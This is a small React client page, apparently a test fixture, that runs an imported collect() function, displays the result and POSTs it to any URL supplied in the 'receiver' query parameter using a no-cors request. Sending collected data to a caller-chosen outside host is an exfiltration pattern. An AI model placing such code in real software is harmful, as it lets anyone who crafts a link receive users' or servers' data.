'use client';

import { useEffect, useState } from 'react';
import { collect } from '../collect.js';

/** Computes in the browser; what it imports is evaluated on the server too. */
export default function Page() {
  const [lines, setLines] = useState([]);
  useEffect(() => {
    void collect().then(collected => {
      setLines(collected);
      const receiver = new URLSearchParams(location.search).get('receiver');
      return fetch(receiver, { method: 'POST', mode: 'no-cors', body: JSON.stringify(collected) });
    });
  }, []);
  return <pre>{lines.join('\n')}</pre>;
}
